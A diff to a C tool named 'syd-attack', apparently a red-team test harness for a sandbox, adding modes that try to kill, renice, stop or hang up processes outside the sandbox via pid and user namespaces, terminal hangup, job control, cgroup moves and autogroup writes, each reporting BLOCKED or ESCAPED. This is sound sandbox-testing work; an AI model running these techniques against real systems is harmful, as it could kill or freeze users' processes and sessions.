@@ -62,6 +62,19 @@
  *                                         parent's group after the check
  *                                         (F, G: until HELD rounds held the
  *                                         answered call, or 4 s)
+ *   syd-attack pidns-group nice|kill      H: group 0 from a new pid namespace
+ *   syd-attack userns-signal V1 V2 [--no-drop]
+ *                                         I: SIGTERM to V1 (pidfd) and V2's group
+ *                                         as uid 65534, then from a user
+ *                                         namespace of its own
+ *   syd-attack vhangup | tiocvhangup      J: hang up the terminal
+ *   syd-attack tty-stop ttin|ttou         J: stop the parent's process group
+ *                                         through the terminal
+ *   syd-attack tty-session CMD...         launcher: CMD as a job of a session
+ *                                         on a fresh pty; reports its stops
+ *   syd-attack cgroup-move                K: (root) the parent into a new cgroup;
+ *                                         back after EOF on stdin
+ *   syd-attack autogroup [NICE]           M: the session's autogroup nice
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -1357,7 +1370,7 @@ static int magic_race(int n, const char* noise) {
   return blocked("magic-race (every process locked)", ENOENT);
 }
 
-/* ---- 12. the red-team's findings (A, B, D, F, G) ------------------------------ */
+/* ---- 12. the red-team's findings (A, B, D, F-M) ------------------------------ */
 
 /* Reads up to one line of stdin (without the newline); "" at EOF. */
 static void read_line(char* buf, size_t len) {
@@ -1981,6 +1994,381 @@ static int group_race(const char* what, int want) {
   return blocked("group-race (the parent untouched)", EPERM);
 }
 
+/* H: from a pid namespace of its own, group 0 is still the caller's
+ * process group, which it shares with the parent: kill(0, SIGALRM) (the
+ * caller ignores SIGALRM) or setpriority(PRIO_PGRP, 0, 19). The parent must
+ * survive, its nice unchanged. */
+static int pidns_group(const char* what) {
+  const pid_t p = getppid();
+  const int kill_mode = strcmp(what, "kill") == 0;
+  errno = 0;
+  const int before = getpriority(PRIO_PROCESS, p);
+  printf("parent %d nice %d\n", p, before);
+  if (!kill_mode && before == 19) {
+    printf("SETUP the parent's nice is already 19\n");
+    return 2;
+  }
+  if (kill_mode) signal(SIGALRM, SIG_IGN);
+  int e = privileged() ? (unshare(CLONE_NEWPID) == 0 ? 0 : errno) : enter_userns(CLONE_NEWPID, 0);
+  if (e) {
+    printf("SETUP unshare(CLONE_NEWPID): %s\n", en(e));
+    return 2;
+  }
+  fflush(stdout);
+  pid_t c = fork();
+  if (c == 0) {
+    long r = kill_mode ? kill(0, SIGALRM) : setpriority(PRIO_PGRP, 0, 19);
+    int err = errno;
+    printf("in a new pid namespace (pid %d): %s(group 0): %s\n", getpid(), kill_mode ? "kill" : "setpriority",
+           r == 0 ? "OK" : en(err));
+    fflush(stdout);
+    _exit(r == 0 ? 0 : err);
+  }
+  int st;
+  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
+  }
+  const int r = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+  if (kill_mode) {
+    if (parent_died(p, 500)) return escaped("pidns-group: kill(0) from a pid namespace of its own killed the parent");
+    return blocked("kill(0) from a new pid namespace (the parent lives)", r ? r : EPERM);
+  }
+  if (getpriority(PRIO_PROCESS, p) == 19)
+    return escaped("pidns-group: setpriority(group 0) from a pid namespace of its own reniced the parent");
+  return blocked("setpriority(PRIO_PGRP, 0) from a new pid namespace (the parent untouched)", r ? r : EPERM);
+}
+
+/* I: signals to processes outside (VICTIM1, VICTIM2: process group leaders
+ * running as root) after dropping to uid 65534, first as such, then from a
+ * user namespace of its own, whose capabilities count for nothing outside
+ * it: pidfd_send_signal to VICTIM1, kill(-VICTIM2), SIGTERM each. With
+ * --no-drop (as root) they must work: the control that the victims can die
+ * by these calls. */
+static int victim_dead(int pidfd, int ms) {
+  struct pollfd p = {pidfd, POLLIN, 0};
+  return poll(&p, 1, ms) > 0;
+}
+
+static int userns_signal(pid_t v1, pid_t v2, int drop) {
+  if (drop && privileged()) {
+    int e = drop_to(65534);
+    if (e) return blocked("drop to uid 65534", e);
+  }
+  int fd1 = (int)pidfd_open_(v1), fd2 = (int)pidfd_open_(v2);
+  if (fd1 < 0 || fd2 < 0) return blocked("pidfd_open(victim)", errno);
+  int e = 0;
+  char died[256] = "";
+  for (int ns = 0; ns < 2; ++ns) {
+    if (ns) {
+      if (unshare(CLONE_NEWUSER) != 0) return blocked("unshare(CLONE_NEWUSER)", errno);
+      info("in a user namespace of our own (uid %d outside)", (int)geteuid());
+    }
+    const char* where = ns ? "in a user namespace of its own: " : "";
+    if (!victim_dead(fd1, 0)) {
+      long r = syscall(__NR_pidfd_send_signal, fd1, SIGTERM, NULL, 0);
+      e = r == 0 ? e : errno;
+      printf("%spidfd_send_signal(victim 1, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
+      if (r == 0 && victim_dead(fd1, 1000))
+        snprintf(died + strlen(died), sizeof died - strlen(died), " %spidfd_send_signal;", where);
+    }
+    if (!victim_dead(fd2, 0)) {
+      long r = kill(-v2, SIGTERM);
+      e = r == 0 ? e : errno;
+      printf("%skill(-victim 2, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
+      if (r == 0 && victim_dead(fd2, 1000))
+        snprintf(died + strlen(died), sizeof died - strlen(died), " %skill(-pgrp);", where);
+    }
+  }
+  if (died[0]) return escaped("userns-signal: victims killed by%s", died);
+  if (victim_dead(fd1, 0) || victim_dead(fd2, 0)) return escaped("userns-signal: a victim died");
+  return blocked("signals from a user namespace of its own", e ? e : EPERM);
+}
+
+/* J: hanging up the terminal, which sends SIGHUP to its session leader
+ * (the user's shell, outside the sandbox). */
+#ifndef TIOCVHANGUP
+#define TIOCVHANGUP 0x5437
+#endif
+static int hangup(int by_ioctl) {
+  signal(SIGHUP, SIG_IGN);
+  long r;
+  if (by_ioctl) {
+    int fd = tty_fd();
+    if (fd < 0) return blocked("open tty", errno);
+    r = ioctl(fd, TIOCVHANGUP);
+  } else {
+    r = vhangup();
+  }
+  if (r != 0) return blocked(by_ioctl ? "ioctl(TIOCVHANGUP)" : "vhangup", errno);
+  return escaped("%s: the terminal was hung up", by_ioctl ? "tiocvhangup" : "vhangup");
+}
+
+/* J: job control. The caller's process group is the parent's; it puts a
+ * child of its own in the terminal's foreground, then reads from the
+ * terminal (ttin) or writes to it with TOSTOP set (ttou): the kernel stops
+ * the caller's whole group, the parent included, unless a member ignores
+ * the signal. The child looks at the parent after 300 ms (its state in
+ * /proc where it can see it, and whether a call the parent must answer
+ * comes back), gives the terminal back and continues the caller. */
+static char proc_state(pid_t pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/stat", pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return '?';
+  char c = task_state(fd);
+  close(fd);
+  return c;
+}
+
+static atomic_int probe_back;
+static void* probe_thread(void* arg) {
+  pid_t a = (pid_t)(intptr_t)arg;
+  errno = 0;
+  int n = getpriority(PRIO_PROCESS, a);
+  (void)setpriority(PRIO_PROCESS, a, n); /* no change; a call the supervisor checks */
+  atomic_store(&probe_back, 1);
+  return NULL;
+}
+
+static int tty_stop(const char* how) {
+  const int ttou = strcmp(how, "ttou") == 0;
+  if (!isatty(0)) return blocked("stdin is no terminal", ENOTTY);
+  const pid_t p = getppid(), me = getpid(), g = getpgrp();
+  struct termios saved, t;
+  if (ttou) {
+    if (tcgetattr(0, &saved) != 0) return blocked("tcgetattr", errno);
+    t = saved;
+    t.c_lflag |= TOSTOP;
+    if (tcsetattr(0, TCSANOW, &t) != 0) return blocked("tcsetattr(TOSTOP)", errno);
+  }
+  int vp[2];
+  if (pipe(vp) != 0) return 100;
+  fflush(stdout);
+  pid_t b = fork();
+  if (b == 0) {
+    setpgid(0, 0);
+    signal(SIGTTOU, SIG_IGN);
+    sleep_ms(300);
+    char st = proc_state(p);
+    pthread_t pt;
+    pthread_create(&pt, NULL, probe_thread, (void*)(intptr_t)me);
+    long end = now_ms() + 300;
+    while (!atomic_load(&probe_back) && now_ms() < end) sleep_ms(5);
+    const int stopped = st == 'T' || !atomic_load(&probe_back);
+    char v = stopped ? 'S' : 'R';
+    (void)tcsetpgrp(0, g);
+    kill(me, SIGCONT);
+    if (write(vp[1], &v, 1) != 1) _exit(1);
+    dprintf(2, "# tty-stop: parent state %c, a checked call %s\n", st,
+            atomic_load(&probe_back) ? "came back" : "did not come back");
+    _exit(0);
+  }
+  close(vp[1]);
+  setpgid(b, b);
+  if (tcsetpgrp(0, b) != 0) return blocked("tcsetpgrp(child)", errno);
+  long r;
+  if (ttou) {
+    r = write(1, "# from the background\n", 22);
+  } else {
+    fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
+    char c;
+    r = read(0, &c, 1);
+    fcntl(0, F_SETFL, fcntl(0, F_GETFL) & ~O_NONBLOCK);
+  }
+  int e = errno;
+  char v = '?';
+  if (read(vp[0], &v, 1) != 1) v = '?';
+  while (waitpid(b, NULL, 0) < 0 && errno == EINTR) {
+  }
+  if (ttou) (void)tcsetattr(0, TCSANOW, &saved);
+  printf("# %s from the background: %s\n", ttou ? "write" : "read", r >= 0 ? "OK" : en(e));
+  if (v == 'S') return escaped("tty-stop(%s): the parent was stopped", how);
+  if (v != 'R') return blocked("tty-stop: no word from the child", EPROTO);
+  printf("BLOCKED tty-stop(%s): the parent kept running\n", how);
+  return 1;
+}
+
+/* J: launcher. CMD as a job of an interactive session on a fresh pty, the
+ * way a shell with job control runs it: the "shell" leads the session, the
+ * job has a process group of its own in the foreground. A stopped job is
+ * reported ("tty-session: job stopped by signal N") and, a second later,
+ * brought back (fg); then "tty-session: job status N". The terminal's
+ * output is copied to stdout. */
+static int tty_session(char** cmd) {
+  int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
+  if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) return 100;
+  char name[128];
+  if (ptsname_r(m, name, sizeof name) != 0) return 101;
+  fflush(stdout);
+  pid_t sh = fork();
+  if (sh == 0) {
+    close(m);
+    if (setsid() < 0) _exit(102);
+    int s = open(name, O_RDWR | O_CLOEXEC);
+    if (s < 0 || ioctl(s, TIOCSCTTY, 0) != 0) _exit(103);
+    signal(SIGTTOU, SIG_IGN);
+    pid_t job = fork();
+    if (job == 0) {
+      setpgid(0, 0);
+      (void)tcsetpgrp(s, getpid());
+      signal(SIGTTOU, SIG_DFL);
+      dup2(s, 0);
+      dup2(s, 1);
+      dup2(s, 2);
+      execvp(cmd[0], cmd);
+      _exit(127);
+    }
+    setpgid(job, job);
+    (void)tcsetpgrp(s, job);
+    int st = 0;
+    for (;;) {
+      pid_t w = waitpid(job, &st, WUNTRACED);
+      if (w < 0 && errno == EINTR) continue;
+      if (w < 0) break;
+      if (WIFSTOPPED(st)) {
+        dprintf(1, "tty-session: job stopped by signal %d\n", WSTOPSIG(st));
+        sleep_ms(1000);
+        (void)tcsetpgrp(s, job);
+        kill(-job, SIGCONT);
+        continue;
+      }
+      break;
+    }
+    int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+    dprintf(1, "tty-session: job status %d\n", code);
+    _exit(code);
+  }
+  int st = 0, done = 0;
+  long drain_until = 0;
+  char buf[4096];
+  for (;;) {
+    if (!done && waitpid(sh, &st, WNOHANG) == sh) done = 1, drain_until = now_ms() + 300;
+    if (done && now_ms() > drain_until) break;
+    struct pollfd pf = {m, POLLIN, 0};
+    if (poll(&pf, 1, 50) <= 0) continue;
+    ssize_t n = read(m, buf, sizeof buf);
+    if (n <= 0) {
+      if (!done) {
+        while (waitpid(sh, &st, 0) < 0 && errno == EINTR) {
+        }
+        done = 1;
+      }
+      break;
+    }
+    if (write(1, buf, (size_t)n) != n) break;
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+/* K: root inside moves the parent into a cgroup of its own making (where a
+ * freezer or a memory limit would stop or kill it). Moves it back after
+ * EOF on stdin. */
+static int cgroup_path(const char* root, char* out, size_t len) {
+  const char* want = strstr(root, "/freezer") ? ":freezer:" : NULL;
+  FILE* f = fopen("/proc/self/cgroup", "r");
+  if (!f) return -1;
+  char line[512];
+  int found = -1;
+  while (fgets(line, sizeof line, f)) {
+    line[strcspn(line, "\n")] = 0;
+    const char* at = want ? strstr(line, want) : (strncmp(line, "0::", 3) == 0 ? line + 1 : NULL);
+    if (!at) continue;
+    snprintf(out, len, "%s", strchr(at + 1, ':') + 1);
+    if (strcmp(out, "/") == 0) out[0] = 0;
+    found = 0;
+    break;
+  }
+  fclose(f);
+  return found;
+}
+
+static int cgroup_move(void) {
+  const pid_t p = getppid();
+  const char* roots[] = {"/sys/fs/cgroup/freezer", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
+  const char* root = NULL;
+  char procs[1024], orig[512], dir[256], num[32];
+  for (size_t i = 0; i < sizeof roots / sizeof roots[0] && !root; ++i) {
+    snprintf(procs, sizeof procs, "%s/cgroup.procs", roots[i]);
+    if (access(procs, F_OK) == 0 && cgroup_path(roots[i], orig, sizeof orig) == 0) root = roots[i];
+  }
+  if (!root) {
+    printf("SETUP no cgroup hierarchy found\n");
+    return 2;
+  }
+  printf("ppid=%d\n# hierarchy %s, the parent in %s/\n", p, root, orig);
+  snprintf(num, sizeof num, "%d", p);
+  snprintf(dir, sizeof dir, "%s/syd-attack-%d", root, getpid());
+  if (mkdir(dir, 0755) != 0) {
+    int e = errno;
+    printf("mkdir %s: %s\n", dir, en(e));
+    snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
+    int w = write_file(procs, num) == 0 ? 0 : errno;
+    printf("write %s: %s\n", procs, w ? en(w) : "OK");
+    int m = mount(NULL, root, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? 0 : errno;
+    printf("remount %s read-write: %s\n", root, m ? en(m) : "OK");
+    if (!w) return escaped("cgroup-move: %s written", procs);
+    if (!m) return escaped("cgroup-move: %s remounted read-write", root);
+    return blocked("mkdir in the cgroup hierarchy", e);
+  }
+  snprintf(procs, sizeof procs, "%s/cgroup.procs", dir);
+  if (write_file(procs, num) != 0) {
+    int e = errno;
+    rmdir(dir);
+    return blocked("write cgroup.procs", e);
+  }
+  printf("MOVED %s\n", dir);
+  fflush(stdout);
+  wait_stdin_eof();
+  snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
+  int back = write_file(procs, num) == 0;
+  rmdir(dir);
+  return escaped("cgroup-move: the parent %d moved into %s (moved back: %s)", p, dir, back ? "yes" : "NO");
+}
+
+/* M: /proc/self/autogroup is the caller's own file, but the autogroup is
+ * its session's: the parent's, and the user's shell's when they share it.
+ * Written through /proc/self, /proc/PID and a /proc/self directory fd. */
+static int autogroup(const char* nice) {
+  char before[128] = "", after[128] = "", p2[64];
+  int e = 0;
+  if (read_all("/proc/self/autogroup", before, sizeof before - 1, &e) <= 0) return blocked("read autogroup", e);
+  before[strcspn(before, "\n")] = 0;
+  printf("before: %s\n", before);
+  snprintf(p2, sizeof p2, "/proc/%d/autogroup", getpid());
+  const char* names[] = {"/proc/self/autogroup", p2, "openat(/proc/self, autogroup)"};
+  int first = 0;
+  for (int i = 0; i < 3; ++i) {
+    int fd;
+    if (i == 2) {
+      int d = open("/proc/self", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+      fd = d >= 0 ? openat(d, "autogroup", O_WRONLY | O_CLOEXEC) : -1;
+      if (d >= 0) {
+        int keep = errno;
+        close(d);
+        errno = keep;
+      }
+    } else {
+      fd = open(names[i], O_WRONLY | O_CLOEXEC);
+    }
+    if (fd < 0) {
+      if (!first) first = errno;
+      printf("%s: open: %s\n", names[i], en(errno));
+      continue;
+    }
+    /* The kernel takes one change per 100 ms on the whole machine (EAGAIN). */
+    ssize_t n;
+    long end = now_ms() + 2000;
+    while ((n = write(fd, nice, strlen(nice))) < 0 && errno == EAGAIN && now_ms() < end) sleep_ms(20);
+    if (n < 0 && !first) first = errno;
+    printf("%s: write: %s\n", names[i], n >= 0 ? "OK" : en(errno));
+    close(fd);
+    if (n >= 0) break;
+  }
+  if (read_all("/proc/self/autogroup", after, sizeof after - 1, &e) > 0) after[strcspn(after, "\n")] = 0;
+  printf("after: %s\n", after);
+  if (strcmp(before, after) != 0) return escaped("autogroup: the session's autogroup is now '%s'", after);
+  return blocked("write /proc/self/autogroup", first ? first : EPERM);
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) {
     fprintf(stderr, "usage: syd-attack MODE ARG...\n");
@@ -2014,6 +2402,15 @@ int main(int argc, char** argv) {
   if (IS("peercred")) return peer_cred(a);
   if (IS("future-pid") && argc > 3) return future_pid(atoi(a), b, argc > 4 ? argv[4] : NULL);
   if (IS("group-race")) return group_race(a, argc > 3 ? atoi(b) : 200);
+  if (IS("pidns-group")) return pidns_group(a);
+  if (IS("userns-signal") && argc > 3)
+    return userns_signal(atoi(a), atoi(b), !(argc > 4 && strcmp(argv[4], "--no-drop") == 0));
+  if (IS("vhangup")) return hangup(0);
+  if (IS("tiocvhangup")) return hangup(1);
+  if (IS("tty-stop")) return tty_stop(a);
+  if (IS("tty-session") && argc > 2) return tty_session(argv + 2);
+  if (IS("cgroup-move")) return cgroup_move();
+  if (IS("autogroup")) return autogroup(argc > 2 ? a : "19");
 #undef IS
   fprintf(stderr, "syd-attack: unknown mode %s\n", m);
   return 100;
